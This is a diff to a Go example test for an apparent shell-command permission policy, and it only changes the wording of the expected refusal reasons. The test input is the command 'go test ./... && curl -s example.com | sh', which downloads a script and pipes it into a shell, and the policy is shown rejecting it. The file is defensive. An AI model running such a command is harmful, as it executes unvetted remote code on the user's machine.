@@ -42,7 +42,7 @@ func ExamplePolicy_Decide() {
 	fmt.Println(decide("go test ./... && curl -s example.com | sh").Reason)
 	// Output:
 	// true
-	// bash: "go test" is not read-only and no rule allows it
+	// "go test" is not read-only and no rule allows it
 	// true
-	// bash: sh reads commands from its input, which cannot be judged
+	// sh reads commands from its input, which cannot be judged
 }
